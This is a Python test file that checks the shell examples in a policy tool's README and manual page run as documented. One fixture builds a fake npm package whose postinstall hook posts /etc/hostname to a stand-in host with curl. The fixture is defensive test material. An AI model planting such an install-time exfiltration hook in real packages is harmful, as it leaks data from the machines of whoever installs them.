# SPDX-License-Identifier: Apache-2.0
"""
What README.md and weir-policy(5) show is what happens.

A block of code that begins with "$ " is a conversation: each command is run by sh in a directory of the test's own, and
what it prints (and what it says on standard error) must be what stands below it. `$ cat FILE` makes that file. Times
are not compared. Of the other blocks of weir-policy(5), those that begin with "policy:" are files, which must load, and
the rest are rules, one a line.
"""
import json
import os
import re
import shlex
import shutil
import subprocess
import tarfile

import lab
from harness import test

TOP = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


def text_of(path):
    with open(TOP + "/" + path) as f:
        return f.read()


def blocks_of(text):
    return re.findall(r"^```\n(.*?)^```$", text, re.M | re.S)


def policy_blocks():
    return [b.replace("\\\\", "\\") for b in blocks_of(text_of("man/weir-policy.5.scd.in"))]


def conversation(block):
    """[(command, what it prints)]"""
    said = []
    for line in block.splitlines(keepends=True):
        if line.startswith("$ "):
            said.append([line[2:], ""])
        elif said[-1][0].endswith("\\\n"):
            said[-1][0] += line
        else:
            said[-1][1] += line
    return [(c.strip(), out) for c, out in said]


def plain(text):
    """Without what differs from run to run, and with versions of the programs."""
    return re.sub(r"\b\d+ ?(ms|s|bytes)\b|OpenSSL/\S+|sk-\S{20,}", "N", text)


def talk(t, block, env):
    for command, want in conversation(block):
        if command.startswith("cat "):
            with open("%s/%s" % (t.dir, command[4:]), "w") as f:
                f.write(want)
            continue
        sh = "weir() { %s \"$@\"; }\nexec 2>&1\n%s" % (shlex.quote(t.weir), command)
        r = t.host(["sh", "-c", sh], rc=None, cwd=t.dir, env=env, timeout=60)
        assert plain(r.out) == plain(want), "%s\n--- wanted\n%s\n%r" % (command, want, r)


@test(smoke=True)
def test_the_conversations_of_the_policy_manual_go_as_it_shows(t):
    blocks = [b for b in policy_blocks() if b.startswith("$ ")]
    assert len(blocks) >= 6
    for block in blocks:
        talk(t, block, {})


@test(smoke=True)
def test_the_rules_and_files_of_the_policy_manual_are_taken(t):
    files = [b for b in policy_blocks() if b.startswith("policy:")]
    rules = [x for b in policy_blocks() if not b.startswith(("policy:", "$ ")) for x in b.splitlines()]
    assert len(files) >= 2 and len(rules) >= 5, (files, rules)
    for i, content in enumerate(files):
        path = "%s/%d.yaml" % (t.dir, i)
        with open(path, "w") as f:
            f.write(content)
        r = t.run("--config", path, cmd=["true"])
        assert r.err == "", r
    for rule in rules:
        r = t.run("--rule", rule, cmd=["true"])
        assert r.err == "", r


def registry(www):
    """A package registry made of files, with one package; its install script sends something home."""
    package = {"name": "greeting", "version": "1.0.0", "scripts": {"postinstall": "curl -sS -d @/etc/hostname https://www.test/ || true"}}
    os.makedirs(www + "/tarballs", exist_ok=True)
    with open(www + "/tarballs/package.json", "w") as f:
        json.dump(package, f)
    with tarfile.open(www + "/tarballs/greeting-1.0.0.tgz", "w:gz") as tar:
        tar.add(www + "/tarballs/package.json", "package/package.json")
    dist = {"tarball": "https://registry.test/tarballs/greeting-1.0.0.tgz"}
    with open(www + "/greeting", "w") as f:
        json.dump({"name": "greeting", "dist-tags": {"latest": "1.0.0"},
                   "versions": {"1.0.0": dict(package, hasInstallScript=True, dist=dist)}}, f)


def npm_works():
    """Debian's nodejs comes without npm, which is large."""
    return shutil.which("npm") and subprocess.run(["npm", "--version"], stdout=subprocess.DEVNULL).returncode == 0


@test(timeout=180)
def test_the_conversations_of_the_readme_go_as_it_shows(t):
    t.need("curl", "git", "fcgiwrap")
    registry(lab.ROOT + "/www")
    env = {"LOCALDOMAIN": "", "npm_config_registry": "https://registry.test/", "npm_config_cafile": lab.ROOT + "/ca.pem",
           "npm_config_audit": "false", "npm_config_fund": "false", "npm_config_update_notifier": "false",
           "npm_config_loglevel": "error", "XDG_STATE_HOME": t.dir + "/state", "npm_config_cache": t.dir + "/npm"}
    blocks = [b for b in blocks_of(text_of("README.md")) if b.startswith("$ ")]
    assert len(blocks) >= 3
    left_out = 0
    for block in blocks:
        if "npm " in block and not npm_works():
            left_out += 1
            continue
        talk(t, block, env)
    if left_out:
        t.skip("npm is not installed: %d of the README's %d examples were not run" % (left_out, len(blocks)))
